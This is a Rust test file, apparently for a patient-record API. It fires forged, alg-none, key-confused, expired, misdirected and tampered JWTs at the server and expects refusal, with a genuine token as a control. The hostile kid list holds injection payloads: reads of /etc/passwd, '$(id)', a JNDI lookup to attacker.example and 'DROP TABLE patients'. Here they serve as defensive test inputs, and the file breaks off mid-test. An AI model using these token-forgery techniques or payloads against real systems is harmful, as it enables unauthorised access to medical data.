//! Token attacks, each sent over HTTP to the real server: forged, confused,
//! stale, misdirected, tampered, oversized and self-vouching tokens must
//! all get 401 `ACCESS_DENIED` "Invalid Access Token" and no patient data.
//!
//! Every test also sends a genuine token built the same way (the same
//! header and claims helpers, the trusted key) and expects 200, so no test
//! can pass because everything is refused.
//!
//! Attacker keys: fresh P-256 keys, and `tests/fixtures/auth/attacker-rsa-*`
//! (an RSA key, its public JWKS and a self-signed certificate made with
//! `openssl genpkey -algorithm RSA` and `openssl req -x509`), which no server
//! here trusts. `rsa-test-*` is trusted only where a test says so.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey};
use p256::elliptic_curve::sec1::ToEncodedPoint;
use p256::pkcs8::{DecodePrivateKey, EncodePrivateKey, EncodePublicKey, LineEnding};
use serde_json::{Value, json};

use crate::helpers::{TestApp, dev_keys, settings, spine_code, test_cluster_dir};
use pds::auth::dev::{DEV_AUDIENCE, DEV_ISSUER, KEY_FILE};
use pds::auth::personas::{self, Overrides, Persona};
use pds::auth::verify::MAX_TOKEN_BYTES;

const PATH: &str = "/Patient/9000000009";
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/auth");
const TRUSTED_RSA_KEY: &str = include_str!("../../fixtures/auth/rsa-test-key.pem");
const TRUSTED_RSA_PUB: &str = include_str!("../../fixtures/auth/rsa-test-pub.pem");
const TRUSTED_RSA_JWKS: &str = include_str!("../../fixtures/auth/rsa-test-jwks.json");
const TRUSTED_RSA_KID: &str = "rsa-test-1";
const ATTACKER_RSA_KEY: &str = include_str!("../../fixtures/auth/attacker-rsa-key.pem");
const ATTACKER_RSA_JWKS: &str = include_str!("../../fixtures/auth/attacker-rsa-jwks.json");
const ATTACKER_RSA_CERT: &str = include_str!("../../fixtures/auth/attacker-rsa-cert.pem");
const ATTACKER_RSA_KID: &str = "attacker-rsa-1";
/// The HS256 secret of the servers that accept HS256.
const HS256_SECRET: &str = "a-shared-secret-of-more-than-thirty-two-bytes";

// ---------------------------------------------------------------- servers

/// The default test server: trusts the developer EC key only, no HS256.
async fn dev_app() -> TestApp {
    TestApp::spawn().await
}

/// Also trusts the RSA test key (`rsa-test-1`, from a JWKS file).
async fn rsa_app() -> TestApp {
    let mut s = settings();
    s.auth.jwks_files = vec![format!("{FIXTURES}/rsa-test-jwks.json").into()];
    TestApp::spawn_with(s).await
}

/// Trusts the developer key and the RSA test key, and accepts HS256 with
/// [`HS256_SECRET`].
async fn hs256_app() -> TestApp {
    let mut s = settings();
    s.auth.jwks_files = vec![format!("{FIXTURES}/rsa-test-jwks.json").into()];
    s.auth.hs256_secret = Some(HS256_SECRET.into());
    TestApp::spawn_with(s).await
}

// ------------------------------------------------------------------- keys

/// The developer signing key the test servers trust, read from its file
/// (so tests can sign any header, which `DevKeys::mint` does not allow).
fn dev_secret() -> &'static p256::SecretKey {
    static KEY: OnceLock<p256::SecretKey> = OnceLock::new();
    KEY.get_or_init(|| {
        dev_keys();
        let path = test_cluster_dir("test-dev-keys").join(KEY_FILE);
        let pem = std::fs::read_to_string(&path).expect("the dev key file");
        p256::SecretKey::from_pkcs8_pem(&pem).expect("a PKCS#8 P-256 key")
    })
}

fn ec_signer(secret: &p256::SecretKey) -> EncodingKey {
    let der = secret.to_pkcs8_der().expect("PKCS#8 DER");
    EncodingKey::from_ec_der(der.as_bytes())
}

fn dev_signer() -> EncodingKey {
    ec_signer(dev_secret())
}

fn dev_kid() -> String {
    dev_keys().kid().to_owned()
}

/// A fresh P-256 key no server trusts.
fn attacker_ec() -> p256::SecretKey {
    p256::SecretKey::random(&mut rand_core::OsRng)
}

/// The public JWK of a P-256 key.
fn ec_jwk(secret: &p256::SecretKey, kid: Option<&str>) -> Value {
    let point = secret.public_key().to_encoded_point(false);
    let mut jwk = json!({
        "kty": "EC", "crv": "P-256",
        "x": b64(point.x().expect("x")), "y": b64(point.y().expect("y")),
    });
    if let Some(kid) = kid {
        jwk["kid"] = json!(kid);
    }
    jwk
}

fn rsa_signer(pem: &str) -> EncodingKey {
    EncodingKey::from_rsa_pem(pem.as_bytes()).expect("an RSA PEM key")
}

fn attacker_rsa_jwk() -> Value {
    let jwks: Value = serde_json::from_str(ATTACKER_RSA_JWKS).expect("JWKS JSON");
    jwks["keys"][0].clone()
}

/// The DER inside a PEM document.
fn pem_der(pem: &str) -> Vec<u8> {
    let body: String = pem
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect::<Vec<_>>()
        .concat();
    STANDARD.decode(body).expect("PEM base64")
}

// ----------------------------------------------------------------- tokens

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn now() -> i64 {
    chrono::Utc::now().timestamp()
}

/// A clinician's claims, for the dev issuer and audience, valid 10 minutes.
fn claims() -> Value {
    let mut c = personas::claims(Persona::Clinician, &Overrides::default()).expect("claims");
    c["iss"] = json!(DEV_ISSUER);
    c["aud"] = json!(DEV_AUDIENCE);
    c["iat"] = json!(now());
    c["exp"] = json!(now() + 600);
    c["jti"] = json!(uuid::Uuid::new_v4().to_string());
    c
}

fn with(mut claims: Value, key: &str, value: Value) -> Value {
    claims[key] = value;
    claims
}

fn without(mut claims: Value, key: &str) -> Value {
    if let Some(map) = claims.as_object_mut() {
        map.remove(key);
    }
    claims
}

/// The header the developer key's tokens have.
fn dev_header() -> Value {
    json!({"alg": "ES256", "typ": "JWT", "kid": dev_kid()})
}

/// `header.payload` from raw JSON texts.
fn signing_input(header: &str, payload: &str) -> String {
    format!("{}.{}", b64(header.as_bytes()), b64(payload.as_bytes()))
}

/// A compact JWS of raw header and payload texts, signed with `alg`.
fn sign_raw(header: &str, payload: &str, alg: Algorithm, key: &EncodingKey) -> String {
    let input = signing_input(header, payload);
    let signature = jsonwebtoken::crypto::sign(input.as_bytes(), key, alg).expect("signing");
    format!("{input}.{signature}")
}

/// A compact JWS signed with `alg` (whatever the header says).
fn sign(header: &Value, claims: &Value, alg: Algorithm, key: &EncodingKey) -> String {
    sign_raw(&header.to_string(), &claims.to_string(), alg, key)
}

/// A token the server must accept: the dev header and key.
fn genuine(claims: &Value) -> String {
    sign(&dev_header(), claims, Algorithm::ES256, &dev_signer())
}

/// A compact JWS with the given signature segment.
fn with_signature(header: &Value, claims: &Value, signature: &str) -> String {
    format!(
        "{}.{signature}",
        signing_input(&header.to_string(), &claims.to_string())
    )
}

fn parts(token: &str) -> Vec<String> {
    token.split('.').map(str::to_owned).collect()
}

fn bearer(token: &str) -> String {
    format!("Bearer {token}")
}

// --------------------------------------------------------------- requests

struct Answer {
    status: u16,
    body: Value,
    text: String,
}

/// `GET /Patient/9000000009` with this Authorization header and a fresh
/// UUID X-Request-ID.
async fn send(app: &TestApp, authorization: &str) -> Answer {
    send_with_id(app, authorization, &uuid::Uuid::new_v4().to_string()).await
}

async fn send_with_id(app: &TestApp, authorization: &str, request_id: &str) -> Answer {
    let response = app
        .client
        .get(app.url(PATH))
        .header("Authorization", authorization)
        .header("X-Request-ID", request_id)
        .send()
        .await
        .expect("request failed");
    let status = response.status().as_u16();
    let text = response.text().await.unwrap_or_default();
    let body = serde_json::from_str(&text).unwrap_or(Value::Null);
    Answer { status, body, text }
}

/// Why `answer` is not the refusal every attack must get, if it is not.
fn not_refused(answer: &Answer) -> Option<String> {
    let b = &answer.body;
    let issue = &b["issue"][0];
    let problems = [
        (answer.status == 401, "status is not 401"),
        (
            b["resourceType"] == "OperationOutcome",
            "not an OperationOutcome",
        ),
        (
            spine_code(b) == "ACCESS_DENIED",
            "Spine code not ACCESS_DENIED",
        ),
        (issue["code"] == "forbidden", "issue code not forbidden"),
        (
            issue["details"]["coding"][0]["display"] == "Access Denied - Unauthorised",
            "wrong display",
        ),
        (
            issue["diagnostics"] == "Invalid Access Token",
            "diagnostics not 'Invalid Access Token'",
        ),
        (
            !["Smith", "birthDate", "address", "9000000009"]
                .iter()
                .any(|data| answer.text.contains(data)),
            "PATIENT DATA IN THE ANSWER",
        ),
    ];
    let failed: Vec<&str> = problems
        .iter()
        .filter(|(ok, _)| !ok)
        .map(|(_, why)| *why)
        .collect();
    (!failed.is_empty()).then(|| {
        format!(
            "{} ({}): {}",
            answer.status,
            failed.join(", "),
            answer.text.chars().take(300).collect::<String>()
        )
    })
}

/// Whether the answer repeats a token-sized piece of what was sent.
fn reflects(answer: &Answer, authorization: &str) -> bool {
    authorization
        .split_ascii_whitespace()
        .filter(|word| word.len() >= 40)
        .any(|word| answer.text.contains(&word[..40]))
}

/// Sends every attack (a name and an Authorization header) and fails,
/// listing all that were not refused, if any was not.
async fn assert_all_refused(app: &TestApp, attacks: &[(String, String)]) {
    assert!(!attacks.is_empty());
    let mut failures = Vec::new();
    for (name, authorization) in attacks {
        let answer = send(app, authorization).await;
        if let Some(why) = not_refused(&answer) {
            failures.push(format!("{name}: {why}"));
        } else if reflects(&answer, authorization) {
            failures.push(format!("{name}: the answer repeats the token"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} attacks were not refused:\n{}",
        failures.len(),
        attacks.len(),
        failures.join("\n")
    );
}

/// The control: this token reads Jane Smith's record.
async fn assert_accepted(app: &TestApp, token: &str, what: &str) {
    let answer = send(app, &bearer(token)).await;
    assert_eq!(answer.status, 200, "{what}: {}", answer.text);
    assert_eq!(answer.body["resourceType"], "Patient", "{what}");
    assert_eq!(answer.body["id"], "9000000009", "{what}");
}

/// `(name, "Bearer <token>")`.
fn attack(name: impl Into<String>, token: &str) -> (String, String) {
    (name.into(), bearer(token))
}

// ------------------------------------------------------------------ tests

#[tokio::test]
async fn genuine_tokens_built_like_the_attacks_are_accepted() {
    let app = dev_app().await;
    // The developer key's own minting, and the raw builder the attacks use.
    let minted = dev_keys()
        .mint(&personas::claims(Persona::Clinician, &Overrides::default()).expect("claims"))
        .expect("minting");
    assert_accepted(&app, &minted, "DevKeys::mint").await;
    assert_accepted(&app, &genuine(&claims()), "raw ES256 builder").await;
    // Without kid: the one EC key is found by algorithm.
    let no_kid = sign(
        &json!({"alg": "ES256"}),
        &claims(),
        Algorithm::ES256,
        &dev_signer(),
    );
    assert_accepted(&app, &no_kid, "ES256 without kid").await;
    // `exp` inside the 30 s leeway, `nbf` just ahead within it.
    let late = genuine(&with(claims(), "exp", json!(now() - 10)));
    assert_accepted(&app, &late, "exp 10 s ago").await;
    let early = genuine(&with(claims(), "nbf", json!(now() + 10)));
    assert_accepted(&app, &early, "nbf in 10 s").await;
    // An audience array that contains ours.
    let array = genuine(&with(
        claims(),
        "aud",
        json!(["https://elsewhere.example", DEV_AUDIENCE]),
    ));
    assert_accepted(&app, &array, "aud array with ours").await;

    let rsa = rsa_app().await;
    for alg in [Algorithm::RS256, Algorithm::RS512, Algorithm::PS256] {
        let header = json!({"alg": format!("{alg:?}"), "kid": TRUSTED_RSA_KID});
        let token = sign(&header, &claims(), alg, &rsa_signer(TRUSTED_RSA_KEY));
        assert_accepted(&rsa, &token, &format!("{alg:?} by the trusted RSA key")).await;
    }
    let hs = hs256_app().await;
    let token = sign(
        &json!({"alg": "HS256", "typ": "JWT"}),
        &claims(),
        Algorithm::HS256,
        &EncodingKey::from_secret(HS256_SECRET.as_bytes()),
    );
    assert_accepted(&hs, &token, "HS256 with the configured secret").await;
}

#[tokio::test]
async fn alg_none_is_refused_in_any_case_with_or_without_a_signature() {
    let app = dev_app().await;
    let mut attacks = Vec::new();
    for alg in ["none", "None", "NONE", "nOnE", "none ", ""] {
        for header in [
            json!({"alg": alg, "typ": "JWT"}),
            json!({"alg": alg, "typ": "JWT", "kid": dev_kid()}),
        ] {
            let unsigned = with_signature(&header, &claims(), "");
            attacks.push(attack(format!("alg {alg:?}, empty signature"), &unsigned));
            // A real signature by the trusted key over this very header.
            let signed = sign(&header, &claims(), Algorithm::ES256, &dev_signer());
            attacks.push(attack(format!("alg {alg:?}, trusted signature"), &signed));
            let junk = with_signature(&header, &claims(), &b64(b"signature"));
            attacks.push(attack(format!("alg {alg:?}, junk signature"), &junk));
            // Two segments only, as some libraries emit for none.
            let two = signing_input(&header.to_string(), &claims().to_string());
            attacks.push(attack(format!("alg {alg:?}, two segments"), &two));
        }
    }
    // No alg at all, and a non-string alg.
    for header in [
        json!({"typ": "JWT", "kid": dev_kid()}),
        json!({"alg": null, "kid": dev_kid()}),
        json!({"alg": ["ES256"], "kid": dev_kid()}),
        json!({"alg": {"name": "ES256"}, "kid": dev_kid()}),
    ] {
        let signed = sign(&header, &claims(), Algorithm::ES256, &dev_signer());
        attacks.push(attack(format!("header {header}"), &signed));
    }
    assert_all_refused(&app, &attacks).await;
    assert_accepted(&app, &genuine(&claims()), "control").await;
}

/// Every form of a public key an HMAC secret could be confused with.
fn public_key_forms() -> Vec<(String, Vec<u8>)> {
    let public = dev_secret().public_key();
    let pem = public
        .to_public_key_pem(LineEnding::LF)
        .expect("public PEM");
    let der = public.to_public_key_der().expect("public DER");
    let jwks: Value = serde_json::from_str(&dev_keys().jwks_json()).expect("JWKS");
    let jwk = &jwks["keys"][0];
    let rfc7638 = format!(
        r#"{{"crv":"P-256","kty":"EC","x":"{}","y":"{}"}}"#,
        jwk["x"].as_str().unwrap_or_default(),
        jwk["y"].as_str().unwrap_or_default()
    );
    let rsa_jwks: Value = serde_json::from_str(TRUSTED_RSA_JWKS).expect("RSA JWKS");
    let rsa_jwk = &rsa_jwks["keys"][0];
    let n = URL_SAFE_NO_PAD
        .decode(rsa_jwk["n"].as_str().unwrap_or_default())
        .expect("n");
    vec![
        ("EC SPKI PEM".into(), pem.as_bytes().to_vec()),
        ("EC SPKI PEM, CRLF".into(), pem.replace('\n', "\r\n").into()),
        (
            "EC SPKI PEM, trimmed".into(),
            pem.trim().as_bytes().to_vec(),
        ),
        ("EC SPKI DER".into(), der.as_bytes().to_vec()),
        (
            "EC SEC1 point".into(),
            public.to_encoded_point(false).as_bytes().to_vec(),
        ),
        (
            "EC SEC1 compressed point".into(),
            public.to_encoded_point(true).as_bytes().to_vec(),
        ),
        ("EC JWK".into(), jwk.to_string().into_bytes()),
        ("EC JWK, RFC 7638 form".into(), rfc7638.into_bytes()),
        (
            "EC JWKS document".into(),
            dev_keys().jwks_json().into_bytes(),
        ),
        ("RSA SPKI PEM".into(), TRUSTED_RSA_PUB.as_bytes().to_vec()),
        (
            "RSA SPKI PEM, trimmed".into(),
            TRUSTED_RSA_PUB.trim().as_bytes().to_vec(),
        ),
        ("RSA SPKI DER".into(), pem_der(TRUSTED_RSA_PUB)),
        ("RSA modulus".into(), n),
        ("RSA JWK".into(), rsa_jwk.to_string().into_bytes()),
        ("RSA JWKS file".into(), TRUSTED_RSA_JWKS.as_bytes().to_vec()),
        ("empty secret".into(), Vec::new()),
    ]
}

/// HS256/384/512 tokens keyed with the server's public keys, naming each
/// trusted kid and none.
fn hmac_confusion_attacks() -> Vec<(String, String)> {
    let mut attacks = Vec::new();
    for (form, secret) in public_key_forms() {
        let key = EncodingKey::from_secret(&secret);
        for alg in [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512] {
            for kid in [Some(dev_kid()), Some(TRUSTED_RSA_KID.to_owned()), None] {
                let mut header = json!({"alg": format!("{alg:?}"), "typ": "JWT"});
                if let Some(kid) = &kid {
                    header["kid"] = json!(kid);
                }
                let token = sign(&header, &claims(), alg, &key);
                attacks.push(attack(
                    format!("{alg:?} keyed with {form}, kid {kid:?}"),
                    &token,
                ));
            }
        }
    }
    attacks
}

#[tokio::test]
async fn hmac_keyed_with_the_public_key_is_refused_without_an_hs256_secret() {
    let attacks = hmac_confusion_attacks();
    let dev = dev_app().await;
    assert_all_refused(&dev, &attacks).await;
    assert_accepted(&dev, &genuine(&claims()), "control").await;
    // A server that also trusts an RSA key: the classic RS256 → HS256 case.
    let rsa = rsa_app().await;
    assert_all_refused(&rsa, &attacks).await;
    assert_accepted(&rsa, &genuine(&claims()), "control").await;
}

#[tokio::test]
async fn hmac_keyed_with_the_public_key_is_refused_with_an_hs256_secret() {
    let app = hs256_app().await;
    assert_all_refused(&app, &hmac_confusion_attacks()).await;
    // HS256 does work here, with the secret (and only with it).
    let right = EncodingKey::from_secret(HS256_SECRET.as_bytes());
    let token = sign(
        &json!({"alg": "HS256", "kid": dev_kid()}),
        &claims(),
        Algorithm::HS256,
        &right,
    );
    assert_accepted(&app, &token, "HS256 with the secret").await;
    let near = EncodingKey::from_secret(&HS256_SECRET.as_bytes()[1..]);
    let token = sign(&json!({"alg": "HS256"}), &claims(), Algorithm::HS256, &near);
    assert_all_refused(&app, &[attack("HS256 with a shortened secret", &token)]).await;
}

#[tokio::test]
async fn expired_not_yet_valid_and_timeless_tokens_are_refused() {
    let app = dev_app().await;
    let t = now();
    let cases = [
        (
            "exp 31 s ago (just past the leeway)",
            with(claims(), "exp", json!(t - 32)),
        ),
        ("exp an hour ago", with(claims(), "exp", json!(t - 3600))),
        ("exp 0", with(claims(), "exp", json!(0))),
        ("exp negative", with(claims(), "exp", json!(-1))),
        (
            "exp as a string",
            with(claims(), "exp", json!((t + 600).to_string())),
        ),
        ("exp null", with(claims(), "exp", Value::Null)),
        ("exp an array", with(claims(), "exp", json!([t + 600]))),
        (
            "exp an object",
            with(claims(), "exp", json!({"value": t + 600})),
        ),
        ("exp NaN-like text", with(claims(), "exp", json!("NaN"))),
        ("no exp", without(claims(), "exp")),
        ("nbf in a minute", with(claims(), "nbf", json!(t + 60))),
        (
            "nbf next year",
            with(claims(), "nbf", json!(t + 365 * 86400)),
        ),
        (
            "nbf as a string",
            with(claims(), "nbf", json!(t.to_string())),
        ),
        ("nbf negative", with(claims(), "nbf", json!(-1))),
        (
            "expired, and issued in the future",
            with(with(claims(), "exp", json!(t - 120)), "iat", json!(t + 600)),
        ),
    ];
    let attacks: Vec<_> = cases
        .iter()
        .map(|(name, c)| attack(*name, &genuine(c)))
        .collect();
    assert_all_refused(&app, &attacks).await;
    // Duplicate time claims (a parser differential): the later, valid one
    // must not win over the expired one.
    let dup = format!(
        r#"{{"exp":{},"exp":{},"iss":"{DEV_ISSUER}","aud":"{DEV_AUDIENCE}","scope":"{}","sub":"x"}}"#,
        t - 3600,
        t + 600,
        claims()["scope"].as_str().unwrap_or_default()
    );
    let token = sign_raw(
        &dev_header().to_string(),
        &dup,
        Algorithm::ES256,
        &dev_signer(),
    );
    assert_all_refused(&app, &[attack("duplicate exp", &token)]).await;
    assert_accepted(&app, &genuine(&claims()), "control").await;
}

#[tokio::test]
async fn tokens_for_another_audience_or_from_another_issuer_are_refused() {
    let app = dev_app().await;
    let cases = [
        (
            "aud elsewhere",
            with(claims(), "aud", json!("https://elsewhere.example/FHIR/R4")),
        ),
        (
            "aud with a trailing slash",
            with(claims(), "aud", json!(format!("{DEV_AUDIENCE}/"))),
        ),
        (
            "aud upper case",
            with(claims(), "aud", json!(DEV_AUDIENCE.to_uppercase())),
        ),
        (
            "aud prefix of ours",
            with(claims(), "aud", json!("https://pds.localhost/")),
        ),
        ("aud empty", with(claims(), "aud", json!(""))),
        ("aud null", with(claims(), "aud", Value::Null)),
        ("aud a number", with(claims(), "aud", json!(1))),
        (
            "aud an object",
            with(claims(), "aud", json!({"aud": DEV_AUDIENCE})),
        ),
        (
            "aud array without ours",
            with(
                claims(),
                "aud",
                json!(["https://a.example", "https://b.example"]),
            ),
        ),
        ("aud empty array", with(claims(), "aud", json!([]))),
        (
            "aud array nested",
            with(claims(), "aud", json!([[DEV_AUDIENCE]])),
        ),
        ("no aud", without(claims(), "aud")),
        (
            "iss elsewhere",
            with(claims(), "iss", json!("https://evil.example/issuer")),
        ),
        (
            "iss with a trailing slash",
            with(claims(), "iss", json!(format!("{DEV_ISSUER}/"))),
        ),
        (
            "iss upper case",
            with(claims(), "iss", json!(DEV_ISSUER.to_uppercase())),
        ),
        ("iss empty", with(claims(), "iss", json!(""))),
        ("iss null", with(claims(), "iss", Value::Null)),
        (
            "iss an array with ours",
            with(claims(), "iss", json!([DEV_ISSUER])),
        ),
        (
            "iss an array with ours and another",
            with(claims(), "iss", json!(["https://evil.example", DEV_ISSUER])),
        ),
        ("no iss", without(claims(), "iss")),
        (
            "no iss and no aud",
            without(without(claims(), "iss"), "aud"),
        ),
    ];
    let attacks: Vec<_> = cases
        .iter()
        .map(|(name, c)| attack(*name, &genuine(c)))
        .collect();
    assert_all_refused(&app, &attacks).await;
    assert_accepted(&app, &genuine(&claims()), "control").await;
}

/// Serves `body` at every path over HTTP on 127.0.0.1, counting requests.
fn serve(body: String) -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("binding a listener");
    let base = format!("http://{}", listener.local_addr().expect("address"));
    let count = Arc::new(AtomicUsize::new(0));
    let counter = count.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            counter.fetch_add(1, Ordering::SeqCst);
            let Ok(read) = stream.try_clone() else {
                continue;
            };
            let mut reader = BufReader::new(read);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
                line.clear();
            }
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (base, count)
}

#[tokio::test]
async fn unknown_and_hostile_kids_are_refused() {
    let app = dev_app().await;
    // Where a kid that is a URL points: the attacker's keys, if fetched.
    let (evil, fetched) = serve(json!({"keys": [ec_jwk(&attacker_ec(), None)]}).to_string());
    let kids = [
        json!("no-such-kid"),
        json!(""),
        json!(" "),
        json!(dev_kid().to_uppercase()),
        json!(format!("{} ", dev_kid())),
        json!(format!("{}\u{0}", dev_kid())),
        json!(format!("{}/../{}", dev_kid(), dev_kid())),
        json!("../../../../etc/passwd"),
        json!("/etc/passwd"),
        json!("..\\..\\..\\windows\\win.ini"),
        json!("file:///etc/passwd"),
        json!("' OR '1'='1' --"),
        json!("x'; DROP TABLE patients; --"),
        json!("\" OR \"\"=\""),
        json!(format!("{evil}/jwks.json")),
        json!("https://attacker.example/jwks.json"),
        json!("|cat /etc/passwd"),
        json!("$(id)"),
        json!("${jndi:ldap://attacker.example/a}"),
        json!("A".repeat(10 * 1024)),
        json!("\u{0}"),
        json!("line\nbreak\r\nInjected: header"),
        json!("\u{1b}[2J\u{1b}[31mred"),
        json!("\u{7f}\u{8}\u{8}\u{8}"),
        json!("\u{202e}txt.exe"),
        json!("\u{fffd}\u{d7ff}"),
        json!(42),
        json!(0),
        json!(true),
        Value::Null,
        json!([dev_kid()]),
        json!({"kid": dev_kid()}),
    ];
    let mut attacks = Vec::new();
    for kid in &kids {
        let label: String = kid.to_string().chars().take(60).collect();
        let header = json!({"alg": "ES256", "typ": "JWT", "kid": kid});
        // Signed by the trusted key: only the kid is wrong...
        let token = sign(&header, &claims(), Algorithm::ES256, &dev_signer());
        assert!(
            token.len() <= MAX_TOKEN_BYTES,
            "{label}: within the size limit"
        );
        attacks.push(attack(format!("kid {label}, trusted signature"), &token));
        // ...and by an attacker's key.
        let token = sign(
            &header,
            &claims(),
            Algorithm::ES256,
            &ec_signer(&attacker_ec()),
        );
        attacks.push(attack(format!("kid {label}, attacker signature"), &token));
    }
    // A duplicate kid member, the trusted one last.
    let header = format!(
        r#"{{"alg":"ES256","kid":"no-such-kid","kid":"{}"}}"#,
        dev_kid()
    );
    let token = sign_raw(
        &header,
        &claims().to_string(),
        Algorithm::ES256,
        &dev_signer(),
    );
    attacks.push(attack("duplicate kid", &token));
    // A duplicate alg member, a valid one last.
    let header = format!(r#"{{"alg":"none","alg":"ES256","kid":"{}"}}"#, dev_kid());
    let token = sign_raw(
        &header,
        &claims().to_string(),
        Algorithm::ES256,
        &dev_signer(),
    );
    attacks.push(attack("duplicate alg", &token));
    assert_all_refused(&app, &attacks).await;

    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(fetched.load(Ordering::SeqCst), 0, "a kid URL was fetched");
    // The SQL in kids did nothing: the record is still there for a real token.
    assert_accepted(&app, &genuine(&claims()), "control").await;
}

#[tokio::test]
async fn tampered_truncated_and_garbled_tokens_are_refused() {
    let app = dev_app().await;
    let good = genuine(&claims());
    let p = parts(&good);
    let (header, payload, signature) = (&p[0], &p[1], &p[2]);

    let mut attacks = Vec::new();
    // Payload changed under a valid signature of the original.
    let admin = personas::claims(Persona::Admin, &Overrides::default()).expect("claims");
    let changes = [
        (
            "role code to R5110",
            "nhsid_nrbac_roles",
            admin["nhsid_nrbac_roles"].clone(),
        ),
        (
            "scope to the privileged app",
            "scope",
            json!("urn:nhsd:apim:app:level3:privileged-personal-demographics-service"),
        ),
        ("sub", "sub", json!("someone-else")),
        ("exp a year on", "exp", json!(now() + 365 * 86400)),
        ("patient number", "nhs_number", json!("9000000009")),
    ];
    for (what, key, value) in changes {
        let forged = b64(with(claims(), key, value).to_string().as_bytes());
        attacks.push(attack(
            format!("payload {what}"),
            &format!("{header}.{forged}.{signature}"),
        ));
    }
    // A valid signature of another token's payload, and of another header.
    let other = genuine(&claims());
    let o = parts(&other);
    attacks.push(attack(
        "payload of another token",
        &format!("{header}.{}.{signature}", o[1]),
    ));
    attacks.push(attack(
        "signature of another token",
        &format!("{header}.{payload}.{}", o[2]),
    ));
    // Header changed under the original signature.
    for changed in [
        json!({"alg": "ES256", "typ": "JWT"}),
        json!({"alg": "ES256", "typ": "JWT", "kid": dev_kid(), "x": 1}),
        json!({"alg": "ES256", "typ": "JOSE", "kid": dev_kid()}),
        json!({"alg": "ES384", "typ": "JWT", "kid": dev_kid()}),
        json!({"alg": "HS256", "typ": "JWT", "kid": dev_kid()}),
    ] {
        let h = b64(changed.to_string().as_bytes());
        attacks.push(attack(
            format!("header {changed}"),
            &format!("{h}.{payload}.{signature}"),
        ));
    }
    // Signatures cut, flipped, padded, empty, doubled.
    let raw = URL_SAFE_NO_PAD.decode(signature).expect("signature");
    let mut flipped = raw.clone();
    flipped[20] ^= 0x01;
    let mut zero_s = raw.clone();
    zero_s[32..].fill(0);
    let signatures = [
        (
            "truncated by one character",
            signature[..signature.len() - 1].to_owned(),
        ),
        (
            "truncated to half",
            signature[..signature.len() / 2].to_owned(),
        ),
        ("one byte short", b64(&raw[..raw.len() - 1])),
        ("one byte long", b64(&[raw.as_slice(), &[0]].concat())),
        ("a bit flipped", b64(&flipped)),
        ("s zeroed", b64(&zero_s)),
        ("all zero", b64(&[0; 64])),
        ("empty", String::new()),
        ("doubled", format!("{signature}{signature}")),
        ("DER-encoded", b64(&der_signature(&raw))),
    ];
    for (what, sig) in signatures {
        attacks.push(attack(
            format!("signature {what}"),
            &format!("{header}.{payload}.{sig}"),
        ));
    }
    // Garbage in each part, and the wrong shape.
    let garbage = [
        ("header !!!", format!("!!!.{payload}.{signature}")),
        ("payload %%%", format!("{header}.%%%.{signature}")),
        ("signature ***", format!("{header}.{payload}.***")),
        ("padded header", format!("{header}==.{payload}.{signature}")),
        (
            "padded signature",
            format!("{header}.{payload}.{signature}=="),
        ),
        (
            "standard base64 alphabet",
            format!(
                "{header}.{payload}.{}",
                signature.replace('-', "+").replace('_', "/") + "+/"
            ),
        ),
        ("a space inside", format!("{header}.{payload} .{signature}")),
        (
            "header not JSON",
            format!("{}.{payload}.{signature}", b64(b"not json")),
        ),
        (
            "header a JSON array",
            format!("{}.{payload}.{signature}", b64(b"[\"ES256\"]")),
        ),
        (
            "header a JSON string",
            format!("{}.{payload}.{signature}", b64(b"\"ES256\"")),
        ),
        ("header empty", format!(".{payload}.{signature}")),
        ("two parts", format!("{header}.{payload}")),
        ("four parts", format!("{good}.{signature}")),
        (
            "five parts (JWE shape)",
            format!("{header}.{payload}.{signature}.{payload}.{signature}"),
        ),
        ("trailing dot", format!("{good}.")),
        ("leading dot", format!(".{good}")),
        ("dots only", "..".into()),
        ("a token twice", format!("{good} {good}")),
        (
            "JWS JSON serialisation",
            json!({"payload": payload, "protected": header, "signature": signature}).to_string(),
        ),
        ("random base64", b64(&[7; 300])),
        ("the word null", "null".into()),
    ];
    for (what, token) in garbage {
        attacks.push(attack(what, &token));
    }
    // Correctly signed, but the payload is not a JSON object.
    for (what, payload) in [
        ("not JSON", "not json".to_owned()),
        ("a JSON array", json!([claims()]).to_string()),
        ("a JSON string", json!(claims().to_string()).to_string()),
        ("empty", String::new()),
    ] {
        let token = sign_raw(
            &dev_header().to_string(),
            &payload,
            Algorithm::ES256,
            &dev_signer(),
        );
        attacks.push(attack(format!("signed payload {what}"), &token));
    }
    assert_all_refused(&app, &attacks).await;
    assert_accepted(&app, &good, "the untampered token").await;
}

/// An ECDSA signature `r || s` as ASN.1 DER (what OpenSSL emits).
fn der_signature(raw: &[u8]) -> Vec<u8> {
    let int = |bytes: &[u8]| {
        let mut v = bytes.to_vec();
        while v.len() > 1 && v[0] == 0 && v[1] < 0x80 {
            v.remove(0);
        }
        if v[0] >= 0x80 {
            v.insert(0, 0);
        }
        [vec![0x02, v.len() as u8], v].concat()
    };
    let body = [int(&raw[..32]), int(&raw[32..])].concat();
    [vec![0x30, body.len() as u8], body].concat()
}

#[tokio::test]
async fn keys_carried_or_pointed_at_by_the_token_are_never_trusted() {
    // The server trusts the dev key and a JWKS URL (serving the RSA test
    // key): it does fetch URLs, but only the configured one.
    let (configured, configured_fetches) = serve(TRUSTED_RSA_JWKS.to_owned());
    let mut s = settings();
    s.auth.jwks_urls = vec![format!("{configured}/jwks.json")];
    let app = TestApp::spawn_with(s).await;

    let ec = attacker_ec();
